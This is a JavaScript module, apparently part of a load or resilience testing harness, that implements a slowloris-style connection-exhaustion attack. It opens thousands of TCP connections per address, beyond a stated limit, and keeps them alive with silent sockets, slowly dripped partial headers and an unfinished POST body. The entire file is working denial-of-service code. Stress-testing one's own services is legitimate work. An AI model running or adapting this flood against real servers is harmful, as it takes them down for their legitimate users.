// An idle TCP flood: more connections than an address may have, silent, or with a byte every now and then.
import { pause } from "./sender.mjs";

/** More than an address may have open: 6,000. */
const CONNECTIONS = 6_500;
const AT_ONCE = 50;
const BYTE_EVERY_MS = 2_000;
/** Of three connections, one is silent, one sends the head of a request slowly, and one its body. */
const BEGINNINGS = [
  "",
  "GET /health/live HTTP/1.1\r\nx: ",
  "POST /api/v1/projects HTTP/1.1\r\nhost: a\r\ncontent-length: 9999\r\n\r\n",
];

export async function attack(sender, { addresses }) {
  const open = new Set();
  const most = CONNECTIONS * addresses.length;
  let number = 0;
  const drip = setInterval(() => {
    for (const socket of open) if (socket.beginning) socket.write("a");
  }, BYTE_EVERY_MS);
  await sender.repeat(1, async () => {
    for (let next = 0; next < AT_ONCE && open.size < most; next += 1) {
      const socket = sender.open();
      socket.beginning = BEGINNINGS[number % BEGINNINGS.length];
      number += 1;
      sender.counts.sent += 1;
      open.add(socket);
      socket.on("connect", () => socket.write(socket.beginning)).resume();
      socket.on("close", () => {
        open.delete(socket);
        sender.counts.dropped += 1;
      });
    }
    await pause(5);
  });
  clearInterval(drip);
}
